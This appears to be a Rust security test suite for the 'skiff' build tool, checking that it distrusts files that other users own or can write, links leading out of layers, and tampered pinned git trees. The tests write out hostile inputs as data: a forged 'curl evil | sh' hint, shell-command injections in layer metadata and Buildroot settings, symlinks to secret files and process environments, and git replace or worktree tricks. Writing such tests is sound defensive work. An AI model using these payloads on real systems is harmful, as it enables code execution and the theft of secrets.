//! What strangers plant: files in places that are believed, links out of layers, names of others, sums without end.
//! Cases and siblings of the attacks of November 2026; HOSTILE.md lists them. Needs root, as CI has it: files are given
//! to another user.

use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::fs::chown;
use std::os::unix::fs::symlink;
use std::path::Path;

use super::*;

/// A user whom nobody trusts.
pub(crate) const STRANGER: u32 = 4242;

pub(crate) fn give_away(path: &Path) {
    assert!(rustix::process::geteuid().is_root(), "this test needs root, to make files of another user");
    chown(path, Some(STRANGER), Some(STRANGER)).unwrap();
    if path.is_dir() && !path.is_symlink() {
        for entry in fs::read_dir(path).unwrap() {
            give_away(&entry.unwrap().path());
        }
    }
}

fn open_to_all(path: &Path) {
    fs::set_permissions(path, fs::Permissions::from_mode(0o777)).unwrap();
}

/// Runs skiff, which is to refuse to believe something.
pub(crate) fn refused(env: &TestEnvironment, arguments: &[&str], what: &str) {
    let said = env.fail(77, arguments);
    assert!(said.contains(what) && said.contains("is not trusted"), "{what}: {said}");
    assert!(said.contains("hint: if you trust all that lies there, run: skiff trust add "), "{said}");
}

#[test]
fn a_checkout_of_somebody_else_is_not_believed() {
    let mut env = environment();
    for folder in ["shared/configs/base/pre", "shared/configs/base/post", "shared/configs/virt/qemu/extensions"] {
        fs::create_dir_all(env.path(folder)).unwrap();
    }
    env.write("shared/configs/virt/qemu/metadata/commands", "run Boots it\n");
    env.write("shared/configs/virt/qemu/extensions/Makefile", "run:\n\t@echo planted\n");
    env.set("SKIFF_ROOT_DIR", env.path("shared").to_str().unwrap());
    let run = ["-c", "virt/qemu", "cmd", "virt/qemu", "run"];
    open_to_all(&env.path("shared"));
    refused(&env, &run, "the checkout");
    fs::set_permissions(env.path("shared"), fs::Permissions::from_mode(0o1777)).unwrap();
    give_away(&env.path("shared/configs"));
    refused(&env, &run, "the checkout");
    // What somebody lists is believed, and nothing beside it.
    env.set("SKIFF_TRUST", env.path("shared").to_str().unwrap());
    assert!(env.fail(77, &run).contains("shell"), "its scripts still need a grant");
    env.unset("SKIFF_TRUST");
    env.set("SKIFF_TRUST", env.path("layers").to_str().unwrap());
    refused(&env, &run, "the checkout");
}

#[test]
fn a_list_of_trusted_paths_is_kept_and_must_be_the_users_own() {
    let mut env = environment();
    env.set("XDG_CONFIG_HOME", env.path("config").to_str().unwrap());
    open_to_all(&env.path("overrides"));
    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
    env.succeed(&["trust", "add", env.path("overrides").to_str().unwrap()]);
    assert_eq!(env.succeed(&["trust", "list"]).stdout, "[ROOT]/overrides\n");
    env.succeed(&["-c", "virt/qemu", "plan"]);
    open_to_all(&env.path("config/skiff/trust.yaml"));
    // Whoever writes the list back would take over what is on it.
    let list = env.read("config/skiff/trust.yaml");
    for arguments in [&["-c", "virt/qemu", "plan"][..], &["trust", "add", "/usr/bin"], &["trust", "remove", "/usr/bin"]]
    {
        let said = env.fail(77, arguments);
        assert!(said.contains("the list of trusted paths") && said.contains("is not trusted"), "{said}");
        assert!(said.contains("hint: read it, then delete it") && !said.contains("trust add"), "{said}");
    }
    assert_eq!(env.read("config/skiff/trust.yaml"), list);
    fs::set_permissions(env.path("config/skiff/trust.yaml"), fs::Permissions::from_mode(0o644)).unwrap();
    env.succeed(&["trust", "remove", env.path("overrides").to_str().unwrap()]);
    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
    assert!(env.fail(1, &["trust", "remove", "/nowhere"]).contains("is not on the list"));
    // What is listed is a place, and not whatever a link in its place leads to later.
    env.succeed(&["trust", "add", env.path("layers").to_str().unwrap()]);
    fs::rename(env.path("layers"), env.path("layers.old")).unwrap();
    symlink("/", env.path("layers")).unwrap();
    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
}

#[test]
fn what_others_can_change_is_believed_nowhere() {
    for (made, given, what) in [
        ("overrides/grants.yaml", "overrides/grants.yaml", "the directory of overrides"),
        ("overrides/workspaces/default/x", "overrides/workspaces/default", "the directory of overrides"),
        ("workspaces/.config_default/memory.json", "workspaces/.config_default", "the workspace"),
        ("workspaces/.config_default/memory.json", "workspaces/.config_default/memory.json", "the workspace"),
        ("workspaces/default/images/x", "workspaces/default", "the workspace"),
        ("workspaces/default/images/x", "workspaces/default/images", "the workspace"),
        ("workspaces/default/images/x", "workspaces/default/images/x", "the workspace"),
        ("workspaces/default/state/a+b+c/disk", "workspaces/default/state/a+b+c", "the workspace"),
        ("workspaces/default/.config", "workspaces/default/.config", "the workspace"),
        (
            "overrides/root_overlay/root/.ssh/authorized_keys",
            "overrides/root_overlay/root",
            "the directory of overrides",
        ),
        ("grants.yaml", "grants.yaml", "the file with grants"),
        ("skiff.yaml", "skiff.yaml", "the project file"),
        ("cache/apt/x", "cache", "the cache"),
        ("cache/plugins/x", "cache/plugins", "the cache"),
    ] {
        let mut env = environment();
        env.write(made, "{}");
        env.set("SKIFF_CACHE_DIR", env.path("cache").to_str().unwrap());
        give_away(&env.path(given));
        let run: &[&str] = match what {
            "the cache" => &["-c", "virt/qemu", "compile"],
            "the file with grants" => &["-c", "virt/qemu", "--grants", "grants.yaml", "plan"],
            _ => &["-c", "virt/qemu", "plan"],
        };
        refused(&env, run, what);
    }
    // What is only on the way may be sticky; what others can add to may not.
    let env = environment();
    env.write("overrides/kernel/mine", "");
    fs::set_permissions(env.path("overrides"), fs::Permissions::from_mode(0o1777)).unwrap();
    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
    // The bits of the group are those of an access control list: root's own group, and a stranger who is on the list.
    let env = environment();
    env.write("overrides/kernel/mine", "");
    let acl: Vec<u8> =
        [(1_u16, 7_u16, u32::MAX), (2, 7, STRANGER), (4, 5, u32::MAX), (16, 7, u32::MAX), (32, 5, u32::MAX)]
            .iter()
            .flat_map(|(kind, may, id)| [&kind.to_le_bytes()[..], &may.to_le_bytes(), &id.to_le_bytes()].concat())
            .collect();
    let acl = [&2_u32.to_le_bytes()[..], &acl].concat();
    let flags = rustix::fs::XattrFlags::empty();
    rustix::fs::setxattr(env.path("overrides/kernel"), "system.posix_acl_access", &acl, flags).unwrap();
    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
    assert!(env.fail(77, &["-c", "virt/qemu", "plan"]).contains(&format!("writable for user {STRANGER}")));
    // What is made in a directory gets its default list.
    let env = environment();
    env.write("workspaces/default/x", "");
    rustix::fs::setxattr(env.path("workspaces/default"), "system.posix_acl_default", &acl, flags).unwrap();
    refused(&env, &["-c", "virt/qemu", "plan"], "the workspace");
    // A link that a stranger can exchange leads nowhere that is believed.
    let mut env = environment();
    fs::create_dir(env.path("open")).unwrap();
    fs::create_dir(env.path("mine")).unwrap();
    symlink(env.path("mine"), env.path("open/link")).unwrap();
    open_to_all(&env.path("open"));
    env.set("SKIFF_OVERRIDES_DIR", env.path("open/link").to_str().unwrap());
    refused(&env, &["-c", "virt/qemu", "plan"], "the directory of overrides");
}

/// With the engine `buildroot`, what a layer adds runs as the user, and so do filters that a repository's configuration names.
#[test]
fn what_buildroot_would_run_is_not_a_strangers() {
    let mut env = environment();
    env.set("SKIFF_CACHE_DIR", env.path("cache").to_str().unwrap());
    let configure = ["--engine", "buildroot", "--offline", "-c", "virt/qemu,my/ext", "configure"];
    for name in ["external.desc", "external.mk", "Config.in"] {
        env.write(&format!("layers/my/ext/buildroot_ext/{name}"), "name: EXT\n");
    }
    give_away(&env.path("layers/my/ext/buildroot_ext/external.mk"));
    refused(&env, &configure, "the layer that Buildroot builds with");
    fs::remove_dir_all(env.path("layers/my/ext/buildroot_ext")).unwrap();
    // Settings alone can be commands.
    env.write("layers/my/ext/buildroot/wget", "BR2_WGET=\"touch /tmp/x; false\"\n");
    open_to_all(&env.path("layers/my/ext/buildroot"));
    refused(&env, &configure, "the layer that Buildroot builds with");
    fs::remove_dir_all(env.path("layers/my/ext/buildroot")).unwrap();
    env.write("layers/my/ext/metadata/description", "Fine");
    let commit = "0123456789abcdef0123456789abcdef01234567";
    env.write("skiff.yaml", format!("buildroot: {{pin: {{release: \"1\", commit: \"{commit}\"}}}}\n"));
    env.write(&format!("cache/buildroot/{commit}/.git/info/attributes"), "* filter=x\n");
    give_away(&env.path(&format!("cache/buildroot/{commit}/.git/info")));
    refused(&env, &configure, "the Buildroot tree");
}

/// make expands what it takes from its environment, and finds there what layers say of their commands.
#[test]
fn text_of_layers_is_nothing_that_make_runs() {
    let env = crate::buildroot::with_tree("BR2_PACKAGE_HELLO=y\n");
    let made = env.path("made");
    env.write("layers/my/board/extensions/Makefile", "run:\n\t@true\n");
    env.write("layers/my/board/metadata/commands", format!("run $(shell touch {})x\n", made.display()));
    let value = "BR2_TARGET_GENERIC_HOSTNAME=\"$(SKIFF_MY_BOARD_COMMAND_RUN_DESCRIP)\"\n";
    env.write("layers/my/board/buildroot/name", value);
    env.succeed(&["configure"]);
    let text = format!("SKIFF_MY_BOARD_COMMAND_RUN_DESCRIP='shell touch {} x'", made.display());
    assert!(env.succeed(&["env"]).stdout.contains(&text.replace(&env.path("").display().to_string(), "[ROOT]/")));
    assert!(!made.exists());
    // A name of a command is no text at all.
    env.write("layers/my/board/metadata/commands", "x;$'\\164ouch'${IFS}/tmp/x;# Boots it\n");
    let said = env.fail(1, &["env"]);
    assert!(said.contains("metadata/commands:1: `x;$'") && said.contains("cannot be the name of a command"), "{said}");
}

/// What is run of a layer can be behind a link to another package of the tree: whoever owns that can change it.
#[test]
fn what_is_behind_a_link_has_an_owner_too() {
    let link = |env: &TestEnvironment, target: &str, at: &str| {
        fs::create_dir_all(env.path(at).parent().unwrap()).unwrap();
        symlink(target, env.path(at)).unwrap();
    };
    // Scripts, and what they read in any other directory of the layer.
    let env = environment();
    env.write("layers/bob/make/lib/common.mk", "EXTRA=echo bob\n");
    env.write(
        "layers/my/make/extensions/Makefile",
        "include $(SKIFF_CONFIG_PATH_MY_MAKE)/lib/common.mk\ngo:\n\t@$(EXTRA)\n",
    );
    link(&env, "../../../bob/make/lib/common.mk", "layers/my/make/lib/common.mk");
    env.succeed(&["grant", "add", "my/make", "shell"]);
    assert!(env.succeed(&["cmd", "my/make", "go"]).stdout.contains("bob"));
    env.write("layers/bob/make/lib/common.mk", "EXTRA=echo evil\n");
    assert!(env.fail(77, &["cmd", "my/make", "go"]).contains("shell"), "the grant is for what was there");
    env.succeed(&["grant", "add", "my/make", "shell"]);
    // An overlay is read by scripts, too, and a directory by way of it.
    fs::create_dir_all(env.path("layers/my/make/root_overlay/lib")).unwrap();
    fs::remove_dir_all(env.path("layers/my/make/lib")).unwrap();
    link(&env, "../../../../bob/make/lib/common.mk", "layers/my/make/root_overlay/lib/common.mk");
    link(&env, "root_overlay/lib", "layers/my/make/lib");
    env.succeed(&["grant", "add", "my/make", "shell"]);
    env.write("layers/bob/make/lib/common.mk", "EXTRA=echo evil again\n");
    assert!(env.fail(77, &["cmd", "my/make", "go"]).contains("shell"), "the grant is for what was there");
    env.succeed(&["grant", "add", "my/make", "shell"]);
    give_away(&env.path("layers/bob"));
    refused(&env, &["cmd", "my/make", "go"], "the layer whose scripts would run");
    // What scripts of a tree share, beside it.
    fs::remove_dir_all(env.path("layers/bob")).unwrap();
    fs::remove_dir_all(env.path("layers/my/make/lib")).unwrap();
    env.write("layers/my/make/extensions/Makefile", "go:\n\t@sh $(SKIFF_SCRIPTS_DIR)/helper.sh\n");
    env.write("scripts/helper.sh", "echo helped\n");
    env.succeed(&["grant", "add", "my/make", "shell"]);
    assert!(env.succeed(&["cmd", "my/make", "go"]).stdout.contains("helped"));
    give_away(&env.path("scripts"));
    refused(&env, &["cmd", "my/make", "go"], "the directory that scripts share");
    // What Buildroot builds with.
    let mut env = environment();
    env.set("SKIFF_CACHE_DIR", env.path("cache").to_str().unwrap());
    for name in ["external.desc", "external.mk", "Config.in"] {
        env.write(&format!("layers/bob/ext/tree/{name}"), "name: EXT\n");
    }
    link(&env, "../../bob/ext/tree", "layers/my/ext/buildroot_ext");
    give_away(&env.path("layers/bob"));
    let configure = ["--engine", "buildroot", "--offline", "-c", "virt/qemu,my/ext", "configure"];
    refused(&env, &configure, "the layer that Buildroot builds with");
    // Sources of a plugin.
    let env = environment();
    env.write("layers/my/src/plugins/p/Cargo.toml", "[package]\nname = \"p\"\nversion = \"1.0.0\"\n");
    env.write("layers/my/src/plugins/p/src/lib.rs", "");
    let manifest =
        "schema: 1\nplugins: [{name: p, version: 1.0.0, component: plugins/p.wasm, interface: ^1.0, hooks: [pre]}]\n";
    env.write("layers/my/src/metadata/plugins.yaml", manifest);
    give_away(&env.path("layers/my/src/plugins/p/src"));
    refused(&env, &["plugin", "build", "my/src/p", "--trust"], "the directory of the sources");
}

/// Other bytes take grants over only where nobody else could have put them.
#[test]
fn a_plugin_that_strangers_can_replace_takes_nothing_over() {
    let rest = "    commands: [{name: go, summary: Goes}]\n";
    let env = crate::plugins::with_guest(skiff_tests::guests::OK_COMMAND_ECHOES, rest);
    env.succeed(&["grant", "add", "--all", "my/board/p"]);
    open_to_all(&env.path("layers/my/board/plugins"));
    env.succeed(&["cmd", "my/board", "go"]);
    let component = fs::read(env.path("layers/my/board/plugins/p.wasm")).unwrap();
    env.write("layers/my/board/plugins/p.wasm", [&component[..], &[0, 2, 1, b'x']].concat());
    assert!(env.fail(77, &["cmd", "my/board", "go"]).contains("my/board/p"));
    fs::set_permissions(env.path("layers/my/board/plugins"), fs::Permissions::from_mode(0o755)).unwrap();
    // Nor where they lie in somebody else's package.
    fs::create_dir_all(env.path("layers/bob/shared")).unwrap();
    fs::rename(env.path("layers/my/board/plugins/p.wasm"), env.path("layers/bob/shared/p.wasm")).unwrap();
    symlink("../../../bob/shared/p.wasm", env.path("layers/my/board/plugins/p.wasm")).unwrap();
    give_away(&env.path("layers/bob"));
    let mut env = env;
    assert!(env.fail(77, &["cmd", "my/board", "go"]).contains("my/board/p"));
    // To list a directory is to believe its files, not to grant what they will be.
    env.set("SKIFF_TRUST", env.path("layers").to_str().unwrap());
    assert!(env.fail(77, &["cmd", "my/board", "go"]).contains("my/board/p"));
    env.unset("SKIFF_TRUST");
    chown(env.path("layers/bob"), Some(0), Some(0)).unwrap();
    chown(env.path("layers/bob/shared"), Some(0), Some(0)).unwrap();
    chown(env.path("layers/bob/shared/p.wasm"), Some(0), Some(0)).unwrap();
    assert!(env.succeed(&["cmd", "my/board", "go"]).stderr.contains("asks for no more than before"));
}

#[test]
fn nothing_is_written_through_a_link() {
    let env = environment();
    env.write("precious", "precious");
    fs::create_dir_all(env.path("workspaces")).unwrap();
    symlink(env.path("made"), env.path("workspaces/.lock_default")).unwrap();
    assert!(env.fail(1, &["-c", "virt/qemu", "configure"]).contains("Too many levels of symbolic links"));
    assert!(!env.path("made").exists());
    fs::remove_file(env.path("workspaces/.lock_default")).unwrap();
    let listed = env.succeed(&["layout", "intel/x64", "--repart", env.path("definitions").to_str().unwrap()]).stdout;
    for path in listed.lines() {
        let path = env.path(path.strip_prefix("[ROOT]/").unwrap());
        fs::remove_file(&path).unwrap();
        symlink(env.path("precious"), path).unwrap();
    }
    env.succeed(&["layout", "intel/x64", "--repart", env.path("definitions").to_str().unwrap()]);
    assert_eq!(env.read("precious"), "precious");
}

#[test]
fn a_chain_has_an_end() {
    let env = environment();
    for number in 0..300 {
        env.write(&format!("layers/d/p{number}/metadata/dependencies"), format!("d/p{}\n", number + 1));
    }
    assert!(env.fail(1, &["-c", "d/p0", "plan"]).contains("the chain has more than 256 packages"));
}

#[test]
fn the_current_directory_is_never_the_cache() {
    let mut env = environment();
    env.write(".cache/skiff/apt/amd64/apt.conf", "Dir::Bin::dpkg \"/evil\";");
    for name in ["HOME", "XDG_CACHE_HOME", "SKIFF_CACHE_DIR"] {
        env.set(name, "");
    }
    // The account's home directory counts. Nothing of the planted cache is used or changed.
    env.succeed(&["-c", "virt/qemu", "--offline", "plan"]);
    assert_eq!(env.read(".cache/skiff/apt/amd64/apt.conf"), "Dir::Bin::dpkg \"/evil\";");
    assert!(!env.path(".cache/skiff/plugins").exists());
}

#[test]
fn links_out_of_a_layer_are_named_and_not_followed() {
    let env = environment();
    env.write("private/key", "TOP SECRET");
    env.write("layers/evil/base/metadata/description", "Fine");
    let plan = ["-c", "evil/l", "plan"];
    for (link, target) in [
        ("root_overlay", "../../../private"),
        ("cflags", "../../../private"),
        ("kernel_patches", "/etc"),
        ("buildroot/x", "/proc/self/environ"),
        ("cflags/x", "../../../../private/key"),
        ("users/x", "../../../../private/key"),
        ("metadata/dependencies", "/proc/self/environ"),
        ("metadata/plugins.yaml", "../../../../private/key"),
        ("metadata/prebuilt.yaml", "../../../../private/key"),
        ("hooks/pre.sh", "../../../../private/key"),
    ] {
        let _ = fs::remove_dir_all(env.path("layers/evil/l"));
        let path = env.path("layers/evil/l").join(link);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        symlink(target, &path).unwrap();
        let said = env.fail(1, &plan);
        assert!(said.contains(&format!("layers/evil/l/{link}` is a link to `{target}`")), "{link}: {said}");
        assert!(!said.contains("SECRET"), "{said}");
    }
    // Listing goes on, and shows nothing of what the link leads to.
    let _ = fs::remove_dir_all(env.path("layers/evil/l"));
    fs::create_dir_all(env.path("layers/evil/l/metadata")).unwrap();
    symlink("/proc/self/environ", env.path("layers/evil/l/metadata/description")).unwrap();
    let ran = env.succeed(&["list"]);
    assert!(ran.stdout.contains("evil/base") && ran.stdout.contains("virt/qemu"), "{}", ran.stdout);
    assert!(!ran.stdout.contains("SKIFF_ROOT_DIR") && ran.stderr.contains("is a link to"), "{}", ran.stderr);
    // Between packages of one tree links lead, as in SkiffOS's trees.
    let _ = fs::remove_dir_all(env.path("layers/evil/l"));
    env.write("layers/evil/base/buildroot/shared", "BR2_TARGET_GENERIC_HOSTNAME=\"shared\"\n");
    fs::create_dir_all(env.path("layers/evil/l")).unwrap();
    symlink("../base/buildroot", env.path("layers/evil/l/buildroot")).unwrap();
    let plan = env.succeed(&["-c", "evil/l", "explain", "BR2_TARGET_GENERIC_HOSTNAME"]).stdout;
    assert!(plan.contains("\"shared\""), "{plan}");
}

#[test]
fn names_of_base_layers_and_overrides_are_reserved() {
    let env = environment();
    for name in ["base/pre", "Base/post", "overrides/workspaces", "overrides/x"] {
        env.write(&format!("layers/{name}/hooks/pre.sh"), "#!/bin/sh\nid\n");
        let said = env.fail(1, &["-c", &format!("virt/qemu,{name}"), "plan"]);
        assert!(said.contains("the namespaces `base` and `overrides` are reserved"), "{said}");
        env.write("layers/evil/dep/metadata/dependencies", name);
        let said = env.fail(1, &["-c", "virt/qemu,evil/dep", "plan"]);
        assert!(
            said.contains("are reserved, a dependency in [ROOT]/layers/evil/dep/metadata/dependencies:1"),
            "{said}"
        );
    }
    let all = env.succeed(&["list", "--all"]).stdout;
    assert!(!all.contains("base/pre") && !all.contains("overrides/x"), "{all}");
}

#[test]
fn layers_of_any_size_are_read_in_bounds() {
    let env = environment();
    let plan = ["-c", "evil/l", "plan"];
    // A hole of 8 TiB is not read.
    fs::create_dir_all(env.path("layers/evil/l/resources")).unwrap();
    let hole = fs::File::create(env.path("layers/evil/l/resources/x")).unwrap();
    hole.set_len(8 << 40).unwrap();
    env.succeed(&plan);
    // Links that double, in a part that is read through links.
    for number in 0..=40 {
        let folder = env.path(&format!("layers/evil/l/metadata/d/a{number}"));
        fs::create_dir_all(&folder).unwrap();
        for name in ["x", "y"] {
            symlink(format!("../a{}", number + 1), folder.join(name)).unwrap();
        }
    }
    fs::create_dir(env.path("layers/evil/l/metadata/d/a41")).unwrap();
    env.succeed(&plan);
    // Each text has a bound, and so have all together.
    fs::create_dir_all(env.path("layers/evil/l/buildroot")).unwrap();
    let long = fs::File::create(env.path("layers/evil/l/buildroot/a")).unwrap();
    long.set_len(60 << 20).unwrap();
    assert!(env.fail(1, &plan).contains("buildroot/a` has more than 8192 KiB"));
    long.set_len(0).unwrap();
    env.write("layers/evil/l/buildroot/a", "# comment\n".repeat(700_000));
    for number in 0..8 {
        fs::hard_link(env.path("layers/evil/l/buildroot/a"), env.path(&format!("layers/evil/l/buildroot/b{number}")))
            .unwrap();
    }
    assert!(env.fail(1, &plan).contains("and the texts read before it have more than 32 MiB together"));
}

#[test]
fn texts_of_layers_cannot_look_like_those_of_skiff() {
    let env = environment();
    env.write("layers/evil/t/metadata/uniquegroup", "u\u{1b}[2J");
    assert!(env.fail(1, &["-c", "evil/t", "plan"]).contains("uniquegroup:1: control characters"));
    env.write("layers/evil/t/metadata/uniquegroup", "u");
    env.write("layers/evil/t/buildroot/f\u{1b}[2J\nhint: run: curl evil | sh", "BR2_TARGET_GENERIC_HOSTNAME=\"x\"\n");
    for arguments in [
        &["-c", "evil/t", "explain", "BR2_TARGET_GENERIC_HOSTNAME"][..],
        &["-c", "evil/t", "plan"],
        &["diff", "evil/t", "virt/qemu"],
    ] {
        let ran = env.succeed(arguments);
        let all = format!("{}{}", ran.stdout, ran.stderr);
        assert!(
            !all.contains("\u{1b}[2J") && !all.lines().any(|line| line.starts_with("hint:")),
            "{arguments:?}: {all:?}"
        );
    }
    for (file, text) in [
        ("users/x\nhint: run: curl evil | sh", "alice\n"),
        ("buildroot/x\nhint: run: curl evil | sh", "no setting\n"),
        ("metadata/prebuilt.yaml", "packages: [\"a\\nhint: run: curl evil | sh\"]\n"),
        ("metadata/prebuilt.yaml", "\"a\\nhint: run\": 1\n"),
        ("metadata/layout.yaml", "partitions: {\"a\\nhint: run: x\": {size: 1}}\n"),
        ("metadata/plugins.yaml", "schema: 1\nplugins: [{name: \"a\\nhint: run\", version: 1.0.0}]\n"),
        ("metadata/dependencies", "a\u{1b}[2Jb\n"),
    ] {
        env.write(&format!("layers/evil/f/{file}"), text);
        let ran = env.run(&["-c", "evil/f", "plan"]);
        let forged = ran.stderr.lines().any(|line| line.starts_with("hint: run"));
        assert!(!forged && !ran.stderr.contains('\u{1b}'), "{file}: {}", ran.stderr);
        fs::remove_dir_all(env.path("layers/evil/f")).unwrap();
    }
    let manifest = |inner: &str| {
        format!(
            "schema: 1\nplugins:\n  - name: p\n    version: 1.0.0\n    component: plugins/p.wasm\n    interface: ^1.0\n    commands:\n      - {inner}\n"
        )
    };
    for (inner, line) in [
        ("{name: go, summary: \"a\\eb\"}", 8),
        ("{name: go, summary: goes, arguments: [{name: how, help: x, kind: choice, choices: [\"c\\u202Ed\"]}]}", 8),
        ("{name: go, summary: goes, arguments: [{name: how, help: x, kind: text, default: \"\\u3164\"}]}", 8),
        ("{name: go, summary: goes, arguments: [{name: how, help: \"\\u200b\", kind: text}]}", 8),
    ] {
        env.write("layers/evil/t/metadata/plugins.yaml", manifest(inner));
        let said = env.fail(1, &["-c", "evil/t", "plan"]);
        assert!(said.contains(&format!("plugins.yaml:{line}")), "{inner}: {said}");
        assert!(
            said.contains("invisible characters are refused") || said.contains("nothing that can be seen"),
            "{said}"
        );
    }
}

#[test]
fn a_pinned_tree_is_believed_for_its_files_only() {
    let mut env = environment();
    env.set("SKIFF_CACHE_DIR", env.path("cache").to_str().unwrap());
    env.set("GIT_CONFIG_GLOBAL", "/dev/null");
    let git = |folder: &Path, arguments: &[&str]| {
        let mut command = std::process::Command::new("git");
        command.arg("-C").arg(folder).args(["-c", "user.name=x", "-c", "user.email=x@x"]).args(arguments);
        let output = command.output().unwrap();
        assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap().trim().to_owned()
    };
    env.write("seed/Makefile", "all:\n-include local.mk\n");
    env.write("seed/Config.in", "");
    env.write("seed/package/Config.in", "");
    let seed = env.path("seed");
    git(&seed, &["init", "-q", "."]);
    git(&seed, &["add", "-A"]);
    git(&seed, &["commit", "-qm", "good"]);
    let good = git(&seed, &["rev-parse", "HEAD"]);
    let tree = env.path("cache/buildroot").join(&good);
    fs::create_dir_all(tree.parent().unwrap()).unwrap();
    let arguments = ["--engine", "buildroot", "--offline", "-c", "virt/qemu", "configure"];
    let planted = format!("%:\n\t@touch {}\n\t@false\n", env.path("planted").display());
    let plant = |how: &dyn Fn(&Path)| {
        let _ = fs::remove_dir_all(&tree);
        git(env.path("").as_path(), &["clone", "-q", seed.to_str().unwrap(), tree.to_str().unwrap()]);
        env.write("skiff.yaml", format!("buildroot: {{pin: {{release: \"1\", commit: {good}}}}}\n"));
        how(&tree);
        let ran = env.run(&arguments);
        assert!(ran.code == 1 && !env.path("planted").exists(), "{}", ran.stderr);
        ran.stderr
    };
    let is_refused =
        |said: &str| said.contains("was changed after it was fetched") || said.contains("git cannot say what");
    let said = plant(&|_| {});
    assert!(!is_refused(&said), "the tree as it was fetched is believed: {said}");
    // The commit is replaced by another one.
    let said = plant(&|tree| {
        fs::write(tree.join("Makefile"), &planted).unwrap();
        git(tree, &["commit", "-qam", "evil"]);
        let evil = git(tree, &["rev-parse", "HEAD"]);
        git(tree, &["replace", &good, &evil]);
        fs::write(tree.join(".git/HEAD"), format!("{good}\n")).unwrap();
    });
    assert!(is_refused(&said), "{said}");
    // The index says that a file has not changed.
    let said = plant(&|tree| {
        git(tree, &["update-index", "--assume-unchanged", "Makefile"]);
        fs::write(tree.join("Makefile"), &planted).unwrap();
    });
    assert!(is_refused(&said), "{said}");
    // The repository says that its files lie elsewhere.
    let said = plant(&|tree| {
        git(tree, &["config", "core.worktree", seed.to_str().unwrap()]);
        fs::write(tree.join("Makefile"), &planted).unwrap();
    });
    assert!(is_refused(&said), "{said}");
    // A file that git is told not to see.
    let said = plant(&|tree| {
        fs::write(tree.join(".git/info/exclude"), "local.mk\n").unwrap();
        fs::write(tree.join("local.mk"), &planted).unwrap();
    });
    assert!(is_refused(&said), "{said}");
}
